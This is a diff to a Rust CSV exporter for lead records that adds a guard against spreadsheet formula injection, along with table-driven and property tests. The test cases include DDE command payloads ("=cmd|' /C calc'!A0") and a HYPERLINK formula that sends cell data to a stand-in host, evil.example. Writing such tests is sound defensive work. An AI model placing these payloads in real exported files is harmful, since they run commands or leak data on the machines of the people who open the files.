@@ -1,10 +1,42 @@
 //! Writing the CSV: a header row of labels, then a row per lead; RFC 4180
-//! quoting (the `csv` crate), CRLF line ends, UTF-8.
+//! quoting (the `csv` crate), CRLF line ends, UTF-8; the formula guard.
 
+use std::borrow::Cow;
 use std::io::Write;
 
 use crate::fields::FieldList;
 use crate::model::Lead;
+use crate::request::CsvFormat;
+
+/// The cell as a spreadsheet may safely open it: a leading `'` when, after
+/// any leading ASCII spaces, the cell starts with `=`, `@`, tab, CR or LF, or
+/// starts with `+` or `-` and holds any character other than ASCII digits,
+/// the ASCII space and `+ - ( ) . , /`. Phone numbers (`+1-555-0100`,
+/// `+49 30 1234567`) and plain numbers (`-5`) stay as they are; `-1.5e3` is
+/// guarded (the `e`).
+///
+/// "Whitespace" is the ASCII space only: a tab, a no-break space or any
+/// other character after a leading sign gets the guard. Leading spaces are
+/// skipped because LibreOffice's "Trim spaces" import option turns ` =1+1`
+/// into a live formula. A cell already starting with `'`, a full-width `＝`
+/// (U+FF1D), `﹦`, `⁼`, `＋`, `＠`, `−` (U+2212), a BOM or a no-break space
+/// before `=` is left alone: LibreOffice keeps all of these as text
+/// (`make spreadsheet-check`).
+pub fn escape_formula(cell: &str) -> Cow<'_, str> {
+    let rest = cell.trim_start_matches(' ');
+    let guard = match rest.as_bytes().first() {
+        Some(b'=' | b'@' | b'\t' | b'\r' | b'\n') => true,
+        Some(b'+' | b'-') => !rest[1..].bytes().all(|b| {
+            b.is_ascii_digit() || matches!(b, b' ' | b'+' | b'-' | b'(' | b')' | b'.' | b',' | b'/')
+        }),
+        _ => false,
+    };
+    if guard {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
 
 /// A CSV writer with the export's dialect: RFC 4180 quoting where needed,
 /// CRLF line ends.
@@ -20,28 +52,43 @@ pub fn write_header<W: Write>(w: &mut csv::Writer<W>, fields: &FieldList) -> csv
     w.write_record(fields.fields().iter().map(|f| f.label()))
 }
 
-/// Writes the row of one lead.
+/// Writes the row of one lead; with `format.escape_formulas`, each cell
+/// through [`escape_formula`] (the one place the guard is applied).
 pub fn write_row<W: Write>(
     w: &mut csv::Writer<W>,
     fields: &FieldList,
     lead: &Lead,
+    format: &CsvFormat,
 ) -> csv::Result<()> {
-    w.write_record(fields.fields().iter().map(|f| f.cell(lead).into_owned()))
+    for field in fields.fields() {
+        let cell = field.cell(lead);
+        if format.escape_formulas {
+            w.write_field(escape_formula(&cell).as_bytes())?;
+        } else {
+            w.write_field(cell.as_bytes())?;
+        }
+    }
+    w.write_record(None::<&[u8]>)
 }
 
 /// Writes the header and one row per lead to `out`.
-pub fn write_csv<W: Write>(out: W, fields: &FieldList, leads: &[Lead]) -> csv::Result<W> {
+pub fn write_csv<W: Write>(
+    out: W,
+    fields: &FieldList,
+    leads: &[Lead],
+    format: &CsvFormat,
+) -> csv::Result<W> {
     let mut w = writer(out);
     write_header(&mut w, fields)?;
     for lead in leads {
-        write_row(&mut w, fields, lead)?;
+        write_row(&mut w, fields, lead, format)?;
     }
     w.into_inner().map_err(|e| e.into_error().into())
 }
 
 /// The whole CSV in memory.
-pub fn to_csv(fields: &FieldList, leads: &[Lead]) -> Vec<u8> {
-    write_csv(Vec::new(), fields, leads).expect("writing to a Vec cannot fail")
+pub fn to_csv(fields: &FieldList, leads: &[Lead], format: &CsvFormat) -> Vec<u8> {
+    write_csv(Vec::new(), fields, leads, format).expect("writing to a Vec cannot fail")
 }
 
 #[cfg(test)]
@@ -64,7 +111,7 @@ mod tests {
             [Field::Name, Field::Emails, Field::JobTitle, Field::City].map(Field::id),
         )
         .unwrap();
-        let csv = String::from_utf8(to_csv(&fields, &[lead])).unwrap();
+        let csv = String::from_utf8(to_csv(&fields, &[lead], &CsvFormat::default())).unwrap();
         assert_eq!(
             csv,
             "Name,Email(s),Job Title,City\r\n\"Jane O\"\"Neil\",\"a@x.com, b@y.com\",\"Head of\nSales\",Zürich\r\n"
@@ -73,10 +120,195 @@ mod tests {
 
     #[test]
     fn header_only_when_no_rows() {
-        let csv = to_csv(&FieldList::defaults(), &[]);
+        let csv = to_csv(&FieldList::defaults(), &[], &CsvFormat::default());
         assert_eq!(
             String::from_utf8(csv).unwrap(),
             "Name,Email(s),Phone(s),LinkedIn URL,City,Country,Job Title,Company Name\r\n"
         );
+    }
+
+    /// (cell, guarded?) for every example of the issue and the edge cases.
+    const CASES: &[(&str, bool)] = &[
+        // Formulas and their starts.
+        ("=1+1", true),
+        ("@SUM(A1)", true),
+        ("+SUM(A1)", true),
+        ("-2+3+cmd|'/C calc'!A0", true),
+        ("=HYPERLINK(\"https://evil.example/?\"&A2&B2,\"x\")", true),
+        ("=cmd|' /C calc'!A0", true),
+        ("@", true),
+        ("=", true),
+        ("\t=1", true),
+        ("\t", true),
+        ("\r\n=1", true),
+        ("\n", true),
+        ("\rx", true),
+        ("-1.5e3", true),
+        ("+1 555 0100 ext. 12", true),
+        ("-x", true),
+        ("+-", false),
+        ("+1\t555", true),
+        ("+1\u{a0}555", true),
+        ("-\u{2212}5", true),
+        ("+A1", true),
+        ("-5%", true),
+        // Phones and numbers stay.
+        ("+1-555-0100", false),
+        ("+49 30 1234567", false),
+        ("+1-555-0100, +1-555-0101", false),
+        ("+1 (555) 010-0100", false),
+        ("+33.1.23.45.67.89", false),
+        ("+1/555/0100", false),
+        ("-5", false),
+        ("-1.5", false),
+        ("-", false),
+        ("+", false),
+        ("--", false),
+        ("12", false),
+        // Not a first-character trigger.
+        ("", false),
+        ("'=1", false),
+        ("' =1", false),
+        (" =1", true),
+        ("   @SUM(A1)", true),
+        ("  +SUM(A1)", true),
+        (" \t", true),
+        (" -5", false),
+        (" +1-555-0100", false),
+        (" ", false),
+        ("\u{a0}=1", false),
+        ("\u{3000}=1", false),
+        ("a=1", false),
+        ("\u{feff}=1", false),
+        ("\u{ff1d}1+1", false),
+        ("\u{ff0b}SUM(A1)", false),
+        ("\u{ff20}SUM(A1)", false),
+        ("\u{2212}2+3", false),
+        ("\u{fe66}1+1", false),
+        ("Head of Sales", false),
+        ("Zürich", false),
+    ];
+
+    #[test]
+    fn formula_guard_table() {
+        for &(cell, guarded) in CASES {
+            let out = escape_formula(cell);
+            if guarded {
+                assert_eq!(out, format!("'{cell}"), "{cell:?} should be guarded");
+                assert!(matches!(out, Cow::Owned(_)));
+            } else {
+                assert!(
+                    matches!(out, Cow::Borrowed(c) if c == cell),
+                    "{cell:?} should stay, got {out:?}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn the_guard_applies_to_every_cell_of_a_row_and_can_be_turned_off() {
+        let lead = Lead {
+            id: "1".into(),
+            first_name: "=1+1".into(),
+            last_name: "x".into(),
+            phones: Some(vec!["+1-555-0100".into(), "+1-555-0101".into()]),
+            job_title: Some("-2+3+cmd|'/C calc'!A0".into()),
+            city: Some("@SUM(A1)".into()),
+            ..Lead::default()
+        };
+        let fields = FieldList::from_ids(
+            [Field::Name, Field::Phones, Field::JobTitle, Field::City].map(Field::id),
+        )
+        .unwrap();
+        let on = String::from_utf8(to_csv(
+            &fields,
+            std::slice::from_ref(&lead),
+            &CsvFormat::default(),
+        ));
+        assert_eq!(
+            on.unwrap(),
+            "Name,Phone(s),Job Title,City\r\n'=1+1 x,\"+1-555-0100, +1-555-0101\",'-2+3+cmd|'/C calc'!A0,'@SUM(A1)\r\n"
+        );
+        let off = CsvFormat {
+            escape_formulas: false,
+        };
+        let off = String::from_utf8(to_csv(&fields, &[lead], &off));
+        assert_eq!(
+            off.unwrap(),
+            "Name,Phone(s),Job Title,City\r\n=1+1 x,\"+1-555-0100, +1-555-0101\",-2+3+cmd|'/C calc'!A0,@SUM(A1)\r\n"
+        );
+    }
+
+    /// Cells from every kind of text: any Unicode, CSV specials, triggers.
+    fn any_cell() -> impl proptest::strategy::Strategy<Value = String> {
+        use proptest::prelude::*;
+        let piece = prop_oneof![
+            any::<char>().prop_map(String::from),
+            prop::sample::select(vec![
+                "=", "@", "+", "-", "\t", "\r", "\n", "\r\n", "\"", ",", "'", " ", "1", "(", "e",
+                "\u{ff1d}", "\u{feff}",
+            ])
+            .prop_map(String::from),
+        ];
+        prop::collection::vec(piece, 0..12).prop_map(|p| p.concat())
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]
+
+        /// Written and read back by a strict reader of the same dialect,
+        /// every cell equals the guarded value (or the value, guard off).
+        #[test]
+        fn cells_round_trip_through_a_strict_reader(
+            cells in proptest::collection::vec(any_cell(), 1..5),
+            escape in proptest::prelude::any::<bool>(),
+        ) {
+            let lead = Lead {
+                id: "1".into(),
+                job_title: Some(cells[0].clone()),
+                city: cells.get(1).cloned(),
+                country: cells.get(2).cloned(),
+                emails: Some(cells[3.min(cells.len() - 1)..].to_vec()),
+                ..Lead::default()
+            };
+            let fields = FieldList::from_ids(
+                [Field::JobTitle, Field::City, Field::Country, Field::Emails].map(Field::id),
+            )
+            .unwrap();
+            let format = CsvFormat { escape_formulas: escape };
+            let bytes = to_csv(&fields, std::slice::from_ref(&lead), &format);
+            let mut reader = csv::ReaderBuilder::new()
+                .has_headers(true)
+                .flexible(false)
+                .terminator(csv::Terminator::CRLF)
+                .from_reader(&bytes[..]);
+            let rows: Vec<csv::StringRecord> =
+                reader.records().collect::<Result<_, _>>().unwrap();
+            proptest::prop_assert_eq!(rows.len(), 1);
+            let expected: Vec<String> = fields
+                .fields()
+                .iter()
+                .map(|f| {
+                    let cell = f.cell(&lead);
+                    if escape { escape_formula(&cell).into_owned() } else { cell.into_owned() }
+                })
+                .collect();
+            let got: Vec<&str> = rows[0].iter().collect();
+            proptest::prop_assert_eq!(got, expected);
+        }
+
+        /// The guard adds one `'` or nothing, and a guarded cell no longer
+        /// starts with a trigger.
+        #[test]
+        fn the_guard_only_prefixes(cell in any_cell()) {
+            let out = escape_formula(&cell);
+            if out.len() != cell.len() {
+                proptest::prop_assert_eq!(&*out, format!("'{cell}"));
+            } else {
+                proptest::prop_assert_eq!(&*out, cell.as_str());
+                let first = cell.trim_start_matches(' ').chars().next();
+                proptest::prop_assert!(!matches!(first, Some('=' | '@' | '\t' | '\r' | '\n')));
+            }
+        }
     }
 }
